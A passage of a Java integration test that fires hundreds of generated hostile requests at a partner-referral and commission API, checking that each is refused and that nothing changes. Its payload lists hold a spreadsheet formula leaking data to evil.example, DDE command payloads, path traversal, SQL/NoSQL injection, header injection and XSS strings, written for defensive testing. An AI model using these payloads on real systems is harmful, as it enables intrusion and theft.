package com.rapport.localstack;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.DynamicNode;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import java.util.concurrent.atomic.AtomicReference;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Issue 10, "hostile input, by the hundred": hundreds of distinct malformed or hostile requests, generated from a
 * catalogue of every public endpoint of API.md and a fixed list of attack families with a fixed seed, are sent
 * through the gateway. Every answer must be a 4xx RFC 9457 problem (never a 5xx), and afterwards the owner's
 * referrals, ledger, notifications, the plans and the users are exactly as before, and a normal referral still
 * flows from submission to a commission entry and a notification.
 * <p>
 * Endpoints still being built are in the catalogue too: until they exist the gateway's 404 problem answers them.
 */
class HostileInputIT {

    /** Fixed: the same cases, in the same order, on every run. */
    private static final long SEED = 20_261_201L;
    private static final int AT_LEAST = 200;
    /** Endpoints other engineers are building now: until they exist, a 404 problem stands for any exact status. */
    private static final List<String> NEWER = List.of("/amendments", "/schedule", "/split", "/follow-ons",
            "/api/deal-terms", "/api/forecast", "/api/adjustments", "/hold", "/release", "/disputes",
            "/api/tax-profiles", "/api/invoices", "/api/tax-statements", "/api/exports/journal.csv",
            "/auth/invitations", "/auth/password-resets");
    private static final String JSON = "application/json";

    private final Journeys journeys = new Journeys();
    private final Api api = journeys.api;
    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5)).build();
    private final Random random = new Random(SEED);

    // ---------------------------------------------------------------------------------------------- the model

    /** What a field holds; decides which wrong values are tried on it. */
    enum Kind {
        TEXT, EMAIL, LANGUAGE, ENUM, MONEY, INSTANT, DATE, ID, DECIMAL, BOOL, INT, LIST, OBJECT, IBAN, BIC, COUNTRY,
        PASSWORD;

        /** Kinds whose values have a strict format: unicode tricks and spreadsheet formulas are invalid there. */
        boolean strict() {
            return switch (this) {
                case EMAIL, LANGUAGE, ENUM, INSTANT, DATE, IBAN, BIC, COUNTRY -> true;
                default -> false;
            };
        }
    }

    /** A body field: a valid JSON literal, or (for objects and lists of objects) the fields inside. */
    record Field(String name, Kind kind, String valid, boolean required, List<Field> children) {

        String render(List<String> path, String replacement) {
            boolean here = !path.isEmpty() && path.get(0).equals(name);
            if (here && path.size() == 1) {
                return replacement;
            }
            if (children.isEmpty()) {
                return valid;
            }
            String object = object(children, here ? path.subList(1, path.size()) : List.of(), replacement);
            return kind == Kind.LIST ? "[" + object + "]" : object;
        }
    }

    static String object(List<Field> fields, List<String> path, String replacement) {
        List<String> members = new ArrayList<>();
        for (Field field : fields) {
            String value = field.render(path, replacement);
            if (value != null) {
                members.add("\"" + field.name() + "\":" + value);
            }
        }
        return "{" + String.join(",", members) + "}";
    }

    /** A query parameter with a valid value. */
    record Query(String name, Kind kind, String valid) {
    }

    /**
     * One public endpoint: its path with {@code {}} where the id goes, the id to use, who may call it with
     * {@code body} (a valid body), and who may not.
     */
    record Endpoint(String method, String template, String id, String actor, List<String> wrong, List<Field> body,
                    List<Query> query, boolean open) {

        String path() {
            return path(id, null, null);
        }

        String path(String otherId, String param, String value) {
            String path = template.replace("{}", otherId == null ? "" : otherId);
            List<String> pairs = new ArrayList<>();
            for (Query q : query) {
                pairs.add(q.name() + "=" + (q.name().equals(param) ? value : q.valid()));
            }
            return pairs.isEmpty() ? path : path + "?" + String.join("&", pairs);
        }

        String validBody() {
            return body.isEmpty() ? null : object(body, List.of(), null);
        }

        String name() {
            return method + " " + template;
        }
    }

    /** One hostile request and, where the contract fixes it, the exact status that must answer it. */
    record Hostile(String family, String endpoint, String method, String path, List<String[]> headers, byte[] body,
                   boolean chunked, Integer exactStatus) {

        String key() {
            StringBuilder key = new StringBuilder(method).append(' ').append(path);
            headers.forEach(h -> key.append('\n').append(h[0].toLowerCase()).append(": ").append(h[1]));
            return key.append("\n\n").append(body == null ? "-" : HexFormat.of().formatHex(body))
                    .append(chunked ? " chunked" : "").toString();
        }

        String describe() {
            String shown = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            if (shown.length() > 160) {
                shown = shown.substring(0, 160) + "...(" + body.length + " bytes)";
            }
            String where = path.length() > 160 ? path.substring(0, 160) + "..." : path;
            List<String> names = headers.stream()
                    .map(h -> h[0] + ": " + (h[1].length() > 40 ? h[1].substring(0, 40) + "..." : h[1])).toList();
            return "[" + family + "] " + method + " " + where + " " + names + " " + shown;
        }
    }

    // ------------------------------------------------------------------------------------------- the journey

    @TestFactory
    Stream<DynamicNode> hundredsOfHostileRequestsAreRefusedWithProblemsAndChangeNothing() {
        Journeys.Partner owner = journeys.partner("hostile-owner");
        Journeys.Partner stranger = journeys.partner("hostile-stranger");
        String open = journeys.submit(owner, "Hostile Open Ltd " + journeys.run);
        String qualified = journeys.submit(owner, "Hostile Qualified Ltd " + journeys.run);
        journeys.act(qualified, "qualify", null);
        String contracted = flowToCommission(owner, "Hostile Paid Ltd " + journeys.run);
        String entry = api.get("/api/commissions?referralId=" + contracted, journeys.finance).json()
                .path("items").path(0).path("entryId").asText();
        assertThat(entry).isNotBlank();

        Map<String, String> tokens = Map.of("ops", journeys.ops, "finance", journeys.finance,
                "admin", journeys.admin, "owner", owner.token(), "stranger", stranger.token());
        Ids ids = new Ids(owner.id(), stranger.id(), open, qualified, contracted, entry, "hostile-" + journeys.run);
        List<Endpoint> endpoints = catalogue(ids);
        List<Hostile> cases = generate(endpoints, tokens, ids);

        Map<String, String> before = settledSnapshot(ids);
        List<DynamicNode> tests = new ArrayList<>();
        tests.add(DynamicTest.dynamicTest("at least " + AT_LEAST + " distinct hostile requests, every endpoint",
                () -> {
                    assertThat(cases).hasSizeGreaterThanOrEqualTo(AT_LEAST);
                    assertThat(cases.stream().map(Hostile::key).distinct().count()).isEqualTo(cases.size());
                    assertThat(cases.stream().map(Hostile::endpoint).distinct().count())
                            .isEqualTo(endpoints.size());
                }));
        int number = 0;
        for (Hostile hostile : cases) {
            String name = String.format("%03d %s", ++number, hostile.describe());
            tests.add(DynamicTest.dynamicTest(name, () -> {
                Api.Response response = send(hostile);
                String seen = name + " -> " + response.status() + " " + response.contentType() + " "
                        + abbreviated(response.text());
                assertThat(response.status()).as(seen).isBetween(400, 499);
                assertThat(response.contentType()).as(seen).startsWith("application/problem+json");
                JsonNode problem = response.json();
                assertThat(problem.path("type").asText()).as(seen).startsWith("https://").contains("/problems/");
                assertThat(problem.path("title").asText()).as(seen).isNotBlank();
                assertThat(problem.path("status").asInt()).as(seen).isEqualTo(response.status());
                boolean notBuiltYet = response.status() == 404 && "not-found".equals(response.problemSlug())
                        && NEWER.stream().anyMatch(hostile.endpoint()::contains);
                if (hostile.exactStatus() != null && !notBuiltYet) {
                    assertThat(response.status()).as(seen).isEqualTo(hostile.exactStatus());
                }
            }));
        }
        tests.add(DynamicTest.dynamicTest("nothing changed", () ->
                assertThat(snapshot(ids)).isEqualTo(before)));
        tests.add(DynamicTest.dynamicTest("the default users still sign in", () -> {
            assertThat(api.login("admin", "admin-dev-password")).isNotBlank();
            assertThat(api.login("ops", "ops-dev-password")).isNotBlank();
        }));
        tests.add(DynamicTest.dynamicTest("a normal referral still flows to a commission and a notification", () -> {
            String referral = flowToCommission(owner, "Hostile Afterwards Ltd " + journeys.run);
            await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(500)).untilAsserted(() -> {
                JsonNode notifications = api.get("/api/notifications?size=100", owner.token()).json().path("items");
                assertThat(notifications.findValuesAsText("referralId")).contains(referral);
            });
        }));
        return tests.stream();
    }

    record Ids(String owner, String stranger, String open, String qualified, String contracted, String entry,
               String username) {
    }

    /** Submitted, qualified, signed for 1,000.00 EUR and paid in full; returns when the commission is visible. */
    private String flowToCommission(Journeys.Partner partner, String company) {
        String referral = journeys.submit(partner, company);
        journeys.act(referral, "qualify", null);
        journeys.act(referral, "contract", Journeys.contract("1000.00", "EUR"));
        journeys.act(referral, "payments",
                Journeys.payment("pay-" + referral, "1000.00", "EUR", "FINAL", "2026-11-20T10:00:00Z"));
        await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(500)).untilAsserted(() ->
                assertThat(api.get("/api/commissions?referralId=" + referral, partner.token()).json()
                        .path("items").size()).isGreaterThanOrEqualTo(1));
        return referral;
    }

    // ------------------------------------------------------------------------------------------ the catalogue

    private static Field f(String name, Kind kind, String valid) {
        return new Field(name, kind, valid, true, List.of());
    }

    private static Field optional(String name, Kind kind, String valid) {
        return new Field(name, kind, valid, false, List.of());
    }

    private static Field text(String name, String value) {
        return f(name, Kind.TEXT, "\"" + value + "\"");
    }

    private static Field money(String name, String amount, String currency) {
        return f(name, Kind.MONEY, "{\"amount\":\"" + amount + "\",\"currency\":\"" + currency + "\"}");
    }

    private static Field object(String name, Kind kind, Field... children) {
        return new Field(name, kind, null, true, List.of(children));
    }

    private static Query q(String name, Kind kind, String valid) {
        return new Query(name, kind, valid);
    }

    private static Endpoint e(String method, String template, String id, String actor, List<String> wrong,
                              List<Field> body, Query... query) {
        return new Endpoint(method, template, id, actor, wrong, body, List.of(query), false);
    }

    /** Anyone may call it: no token families. */
    private static Endpoint anyone(String method, String template, String id, List<Field> body) {
        return new Endpoint(method, template, id, null, List.of(), body, List.of(), true);
    }

    private List<Endpoint> catalogue(Ids ids) {
        String run = journeys.run;
        String at = "\"2026-11-20T10:00:00Z\"";
        List<String> notOps = List.of("owner", "finance", "nobody");
        List<String> notFinance = List.of("owner", "ops", "nobody");
        Field client = object("client", Kind.OBJECT, text("company", "Hostile Client " + run),
                text("contactName", "Li Wei"), f("contactEmail", Kind.EMAIL, "\"hostile-" + run + "@client.example\""));
        Field schedule = object("schedule", Kind.LIST, text("name", "deposit"),
                f("dueDate", Kind.DATE, "\"2026-12-15\""), money("amount", "500.00", "EUR"));
        Field address = object("address", Kind.OBJECT, text("line1", "1 Rue de la Paix"), text("city", "Paris"),
                text("postalCode", "75002"), f("country", Kind.COUNTRY, "\"FR\""));
        String year = "2026";
        String batch = UUID.randomUUID().toString();
        String dispute = UUID.randomUUID().toString();
        String adjustment = UUID.randomUUID().toString();
        String token = "hostile-" + UUID.randomUUID();
        String plan = "hostile-plan-" + run;
        List<Endpoint> all = new ArrayList<>(List.of(
                // partners
                e("POST", "/api/partners", null, "ops", List.of("owner", "finance", "nobody"), List.of(
                        text("name", "Hostile Partner " + run), f("email", Kind.EMAIL, "\"new-" + run + "@partners.example\""),
                        f("language", Kind.LANGUAGE, "\"en\""), optional("parentPartnerId", Kind.ID, "\"" + ids.owner() + "\""))),
                e("GET", "/api/partners/{}", ids.owner(), "ops", List.of("stranger", "nobody"), List.of()),
                e("GET", "/api/partners/me", null, "owner", List.of("nobody"), List.of()),
                e("GET", "/api/partners", null, "ops", List.of("owner", "nobody"), List.of(),
                        q("page", Kind.INT, "0"), q("size", Kind.INT, "20")),
                e("PUT", "/api/partners/{}", ids.owner(), "ops", List.of("stranger", "finance", "nobody"), List.of(
                        text("name", "Renamed " + run), f("email", Kind.EMAIL, "\"renamed-" + run + "@partners.example\""),
                        f("language", Kind.LANGUAGE, "\"fr\""))),
                // referrals and every lifecycle action
                e("POST", "/api/referrals", null, "owner", List.of("finance", "nobody"), List.of(client,
                        text("description", "Hostile mini-program"),
                        // optional (an introducer may not know the size yet): null is no bad input here
                        new Field("estimatedValue", Kind.MONEY, "{\"amount\":\"80000\",\"currency\":\"CNY\"}", false,
                                List.of()))),
                e("GET", "/api/referrals", null, "ops", List.of("nobody"), List.of(),
                        q("status", Kind.ENUM, "SUBMITTED"), q("page", Kind.INT, "0"), q("size", Kind.INT, "20")),
                e("GET", "/api/referrals/{}", ids.open(), "ops", List.of("stranger", "nobody"), List.of()),
                e("POST", "/api/referrals/{}/qualify", ids.open(), "ops", List.of("owner", "finance", "nobody"), List.of()),
                e("POST", "/api/referrals/{}/reject", ids.qualified(), "ops", notOps, List.of(text("reason", "no budget"))),
                e("POST", "/api/referrals/{}/quote", ids.qualified(), "ops", notOps,
                        List.of(money("amount", "900.00", "EUR"))),
                e("POST", "/api/referrals/{}/contract", ids.qualified(), "ops", notOps, List.of(
                        money("contractValue", "1000.00", "EUR"), f("signedAt", Kind.INSTANT, at))),
                e("POST", "/api/referrals/{}/milestones", ids.contracted(), "ops", notOps, List.of(
                        text("name", "kick-off"), optional("note", Kind.TEXT, "\"n\""))),
                e("POST", "/api/referrals/{}/payments", ids.contracted(), "ops", notOps, List.of(
                        text("paymentId", "hostile-pay-" + run), money("amount", "10.00", "EUR"),
                        f("kind", Kind.ENUM, "\"MILESTONE\""), f("receivedAt", Kind.INSTANT, at))),
                e("POST", "/api/referrals/{}/refunds", ids.contracted(), "ops", notOps, List.of(
                        text("refundId", "hostile-refund-" + run), money("amount", "10.00", "EUR"),
                        text("reason", "goodwill"), f("issuedAt", Kind.INSTANT, at))),
                e("POST", "/api/referrals/{}/deliver", ids.contracted(), "ops", notOps, List.of()),
                e("POST", "/api/referrals/{}/complete", ids.open(), "ops", notOps, List.of()),
                e("POST", "/api/referrals/{}/lose", ids.open(), "ops", notOps, List.of(text("reason", "went quiet"))),
                e("POST", "/api/referrals/{}/reassign", ids.open(), "ops", notOps, List.of(
                        f("partnerId", Kind.ID, "\"" + ids.stranger() + "\""), text("reason", "moved"))),
                e("POST", "/api/referrals/{}/amendments", ids.contracted(), "ops", notOps, List.of(
                        text("amendmentId", "hostile-amend-" + run), money("delta", "100.00", "EUR"),
                        text("reason", "scope"), f("signedAt", Kind.INSTANT, at))),
                e("PUT", "/api/referrals/{}/schedule", ids.contracted(), "ops", notOps, List.of(schedule)),
                e("POST", "/api/referrals/{}/split", ids.open(), "ops", notOps, List.of(object("shares", Kind.LIST,
                        f("partnerId", Kind.ID, "\"" + ids.stranger() + "\""), f("share", Kind.DECIMAL, "\"0.40\"")))),
                e("POST", "/api/referrals/{}/follow-ons", ids.contracted(), "ops", notOps, List.of(
                        text("description", "phase two"), new Field("estimatedValue", Kind.MONEY,
                                "{\"amount\":\"500.00\",\"currency\":\"EUR\"}", false, List.of()))),
                e("PUT", "/api/deal-terms/{}", ids.open(), "finance", notFinance, List.of(
                        f("rate", Kind.DECIMAL, "\"0.08\""), new Field("cap", Kind.MONEY,
                                "{\"amount\":\"500.00\",\"currency\":\"EUR\"}", false, List.of()), text("reason", "strategic"))),
                e("GET", "/api/deal-terms/{}", ids.open(), "finance", List.of("owner", "nobody"), List.of()),
                e("GET", "/api/forecast", null, "finance", List.of("nobody"), List.of(),
                        q("partnerId", Kind.ID, ids.owner()), q("months", Kind.INT, "12")),
                // commissions
                e("GET", "/api/commission-plans", null, "owner", List.of("nobody"), List.of()),
                e("GET", "/api/commission-plans/{}", "standard", "owner", List.of("nobody"), List.of()),
                e("PUT", "/api/commission-plans/{}", plan, "finance", List.of("owner", "ops", "nobody"), List.of(
                        object("tiers", Kind.LIST, f("fromContracts", Kind.INT, "1"), f("rate", Kind.DECIMAL, "\"0.10\"")),
                        optional("overrideRate", Kind.DECIMAL, "\"0.02\""), f("holdDays", Kind.INT, "14"))),
                e("PUT", "/api/partner-plans/{}", ids.owner(), "finance", List.of("owner", "ops", "nobody"),
                        List.of(f("planId", Kind.ID, "\"" + plan + "\""))),
                e("GET", "/api/commissions", null, "finance", List.of("nobody"), List.of(),
                        q("partnerId", Kind.ID, ids.owner()), q("page", Kind.INT, "0")),
                e("GET", "/api/commissions/summary", null, "finance", List.of("stranger", "nobody"), List.of(),
                        q("partnerId", Kind.ID, ids.owner())),
                e("GET", "/api/statements/{}", ids.owner(), "finance", List.of("stranger", "nobody"), List.of(),
                        q("from", Kind.DATE, "2026-01-01"), q("to", Kind.DATE, "2026-12-31")),
                e("PUT", "/api/payout-details/{}", ids.owner(), "finance", List.of("stranger", "ops", "nobody"), List.of(
                        text("accountHolder", "Hostile Owner"), f("iban", Kind.IBAN, "\"DE89370400440532013000\""),
                        optional("bic", Kind.BIC, "\"COBADEFFXXX\""))),
                e("POST", "/api/payouts", null, "finance", List.of("owner", "ops", "nobody"),
                        List.of(f("asOf", Kind.DATE, "\"2026-11-01\""))),
                e("GET", "/api/payouts/{}", batch, "finance", List.of("owner", "ops", "nobody"), List.of()),
                e("POST", "/api/payouts/{}/confirm", batch, "finance", List.of("owner", "ops", "nobody"), List.of()),
                e("POST", "/api/payouts/{}/cancel", batch, "finance", List.of("owner", "ops", "nobody"), List.of()),
                e("GET", "/api/payouts/{}/export.csv", batch, "finance", List.of("owner", "ops", "nobody"), List.of()),
                e("GET", "/api/payouts/{}/pain001.xml", batch, "finance", List.of("owner", "ops", "nobody"), List.of(),
                        q("currency", Kind.ENUM, "EUR")),
                e("GET", "/api/exports/ledger.csv", null, "finance", List.of("owner", "ops", "nobody"), List.of(),
                        q("from", Kind.DATE, "2026-01-01"), q("to", Kind.DATE, "2026-12-31")),
                e("GET", "/api/exports/journal.csv", null, "finance", List.of("owner", "ops", "nobody"), List.of(),
                        q("from", Kind.DATE, "2026-01-01"), q("to", Kind.DATE, "2026-12-31")),
                // finance's month end
                e("POST", "/api/adjustments", null, "finance", List.of("owner", "ops", "nobody"), List.of(
                        text("adjustmentId", "hostile-adj-" + run), f("partnerId", Kind.ID, "\"" + ids.owner() + "\""),
                        optional("referralId", Kind.ID, "\"" + ids.contracted() + "\""), money("amount", "25.00", "EUR"),
                        text("reason", "correction"))),
                e("POST", "/api/adjustments/{}/approve", adjustment, "finance", List.of("owner", "ops", "nobody"),
                        List.of()),
                e("POST", "/api/adjustments/{}/reject", adjustment, "finance", List.of("owner", "ops", "nobody"),
                        List.of(text("reason", "not agreed"))),
                e("GET", "/api/adjustments", null, "finance", List.of("owner", "ops", "nobody"), List.of(),
                        q("status", Kind.ENUM, "PROPOSED")),
                e("POST", "/api/commissions/{}/hold", ids.entry(), "finance", List.of("owner", "ops", "nobody"),
                        List.of(text("reason", "checking"))),
                e("POST", "/api/commissions/{}/release", ids.entry(), "finance", List.of("owner", "ops", "nobody"),
                        List.of(text("reason", "checked"))),
                e("POST", "/api/commissions/{}/disputes", ids.entry(), "owner", List.of("stranger", "ops", "nobody"),
                        List.of(text("message", "the rate looks wrong"))),
                e("POST", "/api/disputes/{}/resolve", dispute, "finance", List.of("owner", "ops", "nobody"), List.of(
                        f("outcome", Kind.ENUM, "\"UPHELD\""), text("note", "agreed"),
                        new Field("adjustment", Kind.MONEY, "{\"amount\":\"5.00\",\"currency\":\"EUR\"}", false,
                                List.of()))),
                e("GET", "/api/disputes", null, "finance", List.of("ops", "nobody"), List.of(),
                        q("partnerId", Kind.ID, ids.owner()), q("status", Kind.ENUM, "OPEN")),
                e("GET", "/api/tax-profiles/{}", ids.owner(), "finance", List.of("stranger", "ops", "nobody"), List.of()),
                e("PUT", "/api/tax-profiles/{}", ids.owner(), "finance", List.of("stranger", "ops", "nobody"), List.of(
                        text("legalName", "Hostile Owner SARL"), address, optional("vatId", Kind.TEXT, "\"FR40303265045\""),
                        f("vatRegistered", Kind.BOOL, "true"), f("selfBillingAccepted", Kind.BOOL, "true"))),
                e("GET", "/api/invoices", null, "finance", List.of("ops", "nobody"), List.of(),
                        q("partnerId", Kind.ID, ids.owner()), q("year", Kind.INT, year)),
                e("GET", "/api/invoices/{}.pdf", "SB-2026-000001", "finance", List.of("stranger", "ops", "nobody"),
                        List.of()),
                e("GET", "/api/tax-statements/{}/" + year, ids.owner(), "finance", List.of("stranger", "ops", "nobody"),
                        List.of()),
                // notifications
                e("GET", "/api/notifications", null, "ops", List.of("finance", "nobody"), List.of(),
                        q("partnerId", Kind.ID, ids.owner()), q("page", Kind.INT, "0")),
                e("GET", "/api/notifications/stream", null, null, List.of("ops", "finance", "nobody"), List.of()),
                e("GET", "/api/notification-preferences/{}", ids.owner(), "ops", List.of("stranger", "finance", "nobody"),
                        List.of()),
                e("PUT", "/api/notification-preferences/{}", ids.owner(), "ops", List.of("stranger", "finance", "nobody"),
                        List.of(f("email", Kind.BOOL, "true"), optional("webhook", Kind.OBJECT, "null"),
                                f("frequency", Kind.ENUM, "\"IMMEDIATE\""),
                                optional("mutedEventTypes", Kind.LIST, "[\"referral-qualified\"]"))),
                // accounts
                anyone("POST", "/auth/token", null, List.of(text("username", ids.username()),
                        f("password", Kind.PASSWORD, "\"not-the-password\""))),
                e("POST", "/auth/users", null, "admin", List.of("owner", "finance", "nobody"), List.of(
                        text("username", ids.username()), f("password", Kind.PASSWORD, "\"long-enough-password\""),
                        f("roles", Kind.LIST, "[\"PARTNER\"]"), f("partnerId", Kind.ID, "\"" + ids.stranger() + "\""))),
                e("POST", "/auth/invitations", null, "ops", List.of("owner", "finance", "nobody"), List.of(
                        f("partnerId", Kind.ID, "\"" + ids.stranger() + "\""),
                        f("email", Kind.EMAIL, "\"invite-" + run + "@partners.example\""))),
                anyone("POST", "/auth/invitations/{}/accept", token, List.of(text("username", ids.username()),
                        f("password", Kind.PASSWORD, "\"long-enough-password\""))),
                // "202 always": only bodies that cannot be read are refused, so the address is plain text here
                anyone("POST", "/auth/password-resets", null, List.of(text("email", "hostile-" + run + "@nowhere.example"))),
                anyone("POST", "/auth/password-resets/{}", token, List.of(
                        f("password", Kind.PASSWORD, "\"long-enough-password\"")))));
        return all;
    }

    // ------------------------------------------------------------------------------------------ the families

    private static final String FORMULA_LINK = "=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A1,\\\"open\\\")";
    private static final List<String> FORMULAS = List.of(FORMULA_LINK, "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0");
    private static final List<String> UNICODE = List.of("en\\u202e", "\\u0000", "\\ud800", "\\udfff\\ud800",
            "\\u202eRUE", "e\\u0000n", "\\ufeffen", "\\u2028");
    private static final List<byte[]> RAW = List.of(bytes(0xFF), bytes(0xC0, 0xAF), bytes(0xED, 0xA0, 0x80),
            bytes(0xF8, 0x88, 0x80, 0x80, 0x80), bytes(0xE2, 0x82), bytes(0xC3, 0x28), bytes(0xFE, 0xFF));
    private static final List<String> MONEY_VALUES = List.of(
            "{\"amount\":1e100000,\"currency\":\"EUR\"}", "{\"amount\":\"1e100000\",\"currency\":\"EUR\"}",
            "{\"amount\":1E5,\"currency\":\"EUR\"}", "{\"amount\":\"1E5\",\"currency\":\"EUR\"}",
            "{\"amount\":\"NaN\",\"currency\":\"EUR\"}", "{\"amount\":NaN,\"currency\":\"EUR\"}",
            "{\"amount\":\"Infinity\",\"currency\":\"EUR\"}", "{\"amount\":-Infinity,\"currency\":\"EUR\"}",
            "{\"amount\":\"1234567890123456\",\"currency\":\"EUR\"}",
            "{\"amount\":123456789012345678901234567890,\"currency\":\"EUR\"}",
            "{\"amount\":\"10.001\",\"currency\":\"EUR\"}", "{\"amount\":1.5,\"currency\":\"JPY\"}",
            "{\"amount\":\"1.0001\",\"currency\":\"BHD\"}", "{\"amount\":0.000000000000000000001,\"currency\":\"EUR\"}",
            "{\"amount\":\"10\",\"currency\":\"XXX\"}", "{\"amount\":\"10\",\"currency\":\"EUX\"}",
            "{\"amount\":\"10\",\"currency\":\"" + FORMULA_LINK + "\"}", "{\"amount\":\"10\",\"currency\":\"\\u0000\"}");
    private static final List<String> DECIMAL_VALUES = List.of("1e100000", "\"1e100000\"", "\"NaN\"", "\"Infinity\"",
            "\"1E5\"", "-1e-100000");
    private static final List<String> INT_VALUES = List.of("1e100000", "99999999999999999999", "-2147483649");
    private static final List<String> QUERY_INT = List.of("abc", "1e3", "99999999999999999999", "NaN", "%00",
            "%3D1%2B1");
    private static final List<String> QUERY_DATE = List.of("2026-02-30", "yesterday", "%3D1%2B1",
            "%40SUM(A1%3AA9)", "%00", "2026-13-01", "%E2%80%AE2026-01-01");
    private static final List<String> QUERY_ENUM = List.of("NOT_A_STATUS",
            "%3DHYPERLINK(%22http%3A%2F%2Fevil.example%22%2C%22x%22)", "%40SUM(1%2B1)", "%00", "%E2%80%AEPAID",
            "%FF");
    private static final List<String> ODD_IDS = List.of("..%2F..%2Fetc%2Fpasswd", "..%2f..%2f..%2fetc%2fpasswd%00",
            "%00", "%2e%2e", "%252e%252e%252fetc%252fpasswd", "%7B%22%24ne%22%3Anull%7D",
            "%27%20OR%20%271%27%3D%271", "%E2%80%AE" + UUID.nameUUIDFromBytes(new byte[]{1}), "%ED%A0%80",
            "%C0%AF", "%FF%FE", "%0D%0ASet-Cookie%3A%20hostile%3D1", "x".repeat(3000), "%20",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%2A", UUID.nameUUIDFromBytes(new byte[]{2}) + "%00");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=hostile", "application/octet-stream",
            "image/png", "text/html; charset=utf-8", "application/jsonx", "application/", "garbage",
            "application/json; charset=utf-7");

    private List<Hostile> generate(List<Endpoint> endpoints, Map<String, String> tokens, Ids ids) {
        Map<String, Hostile> cases = new LinkedHashMap<>();
        for (Endpoint endpoint : endpoints) {
            List<String[]> auth = endpoint.actor() == null ? List.of()
                    : List.<String[]>of(new String[]{"Authorization", "Bearer " + tokens.get(endpoint.actor())});
            String valid = endpoint.validBody();
            boolean sendsBody = valid != null;

            // wrong roles (and no token at all)
            for (String who : endpoint.wrong()) {
                List<String[]> headers = who.equals("nobody") ? List.of()
                        : List.<String[]>of(new String[]{"Authorization", "Bearer " + tokens.get(who)});
                add(cases, "wrong role " + who, endpoint, endpoint.path(), json(headers, sendsBody), valid, null);
            }

            // broken Authorization schemes and forged identity headers
            if (!endpoint.open()) {
                for (String broken : pick(brokenAuthorizations(tokens), 2)) {
                    add(cases, "broken authorization", endpoint, endpoint.path(),
                            json(List.<String[]>of(new String[]{"Authorization", broken}), sendsBody), valid, 401);
                }
                if (endpoint.wrong().contains("owner") || endpoint.wrong().contains("stranger")) {
                    String partner = endpoint.wrong().contains("owner") ? "owner" : "stranger";
                    for (List<String[]> forged : pick(forgedIdentities(ids), 2)) {
                        List<String[]> headers = new ArrayList<>();
                        headers.add(new String[]{"Authorization", "Bearer " + tokens.get(partner)});
                        headers.addAll(forged);
                        add(cases, "forged identity headers", endpoint, endpoint.path(), json(headers, sendsBody),
                                valid, null);
                    }
                    List<String[]> duplicated = new ArrayList<>();
                    duplicated.add(new String[]{"Authorization", "Bearer " + tokens.get(partner)});
                    duplicated.add(new String[]{"Authorization", "Bearer " + tokens.get("admin")});
                    add(cases, "duplicated Authorization", endpoint, endpoint.path(), json(duplicated, sendsBody),
                            valid, null);
                }
                List<String[]> forgedAnonymous = List.of(new String[]{"X-Rapport-User", "admin"},
                        new String[]{"X-Rapport-Roles", "ADMIN,OPS,FINANCE"});
                add(cases, "identity headers without a token", endpoint, endpoint.path(),
                        json(forgedAnonymous, sendsBody), valid, 401);
            }

            // path traversal and odd characters in ids
            if (endpoint.template().contains("{}")) {
                for (String odd : pick(ODD_IDS, 3)) {
                    add(cases, "odd id", endpoint, endpoint.path(odd, null, null), json(auth, sendsBody), valid, null);
                }
            }

            // query parameters of the wrong type or format
            for (Query query : endpoint.query()) {
                List<String> values = switch (query.kind()) {
                    case INT -> QUERY_INT;
                    case DATE -> QUERY_DATE;
                    case ENUM -> QUERY_ENUM;
                    default -> List.of();
                };
                for (String value : pick(values, 3)) {
                    add(cases, "query " + query.name(), endpoint, endpoint.path(endpoint.id(), query.name(), value),
                            auth, null, null);
                }
            }

            if (sendsBody) {
                bodyFamilies(cases, endpoint, auth);
            }
        }
        return new ArrayList<>(cases.values());
    }

    private void bodyFamilies(Map<String, Hostile> cases, Endpoint endpoint, List<String[]> auth) {
        String path = endpoint.path();
        List<String[]> json = json(auth, true);
        List<Map.Entry<List<String>, Field>> fields = new ArrayList<>();
        walk(endpoint.body(), List.of(), fields);

        for (Map.Entry<List<String>, Field> entry : fields) {
            List<String> at = entry.getKey();
            Field field = entry.getValue();
            String name = String.join(".", at);
            // wrong JSON types
            for (String wrong : pick(wrongTypes(field.kind()), 2)) {
                add(cases, "wrong type " + name, endpoint, path, json, replaced(endpoint, at, wrong), null);
            }
            if (field.required()) {
                add(cases, "null " + name, endpoint, path, json, replaced(endpoint, at, "null"), null);
            }
            // money in exponent form, NaN/Infinity, too many digits, unknown currency
            if (field.kind() == Kind.MONEY) {
                for (String money : pick(MONEY_VALUES, endpoint.body().size() == 1 ? 10 : 7)) {
                    add(cases, "money " + name, endpoint, path, json, replaced(endpoint, at, money), null);
                }
            }
            if (field.kind() == Kind.DECIMAL) {
                for (String decimal : pick(DECIMAL_VALUES, 3)) {
                    add(cases, "number " + name, endpoint, path, json, replaced(endpoint, at, decimal), null);
                }
            }
            if (field.kind() == Kind.INT) {
                for (String number : pick(INT_VALUES, 2)) {
                    add(cases, "number " + name, endpoint, path, json, replaced(endpoint, at, number), null);
                }
            }
            // unicode edge cases, formulas and undecodable bytes where the format is strict anyway
            if (field.kind().strict()) {
                for (String unicode : pick(UNICODE, 2)) {
                    String value = field.kind() == Kind.EMAIL ? "\"li@acme" + unicode + ".example\"" : "\"" + unicode + "\"";
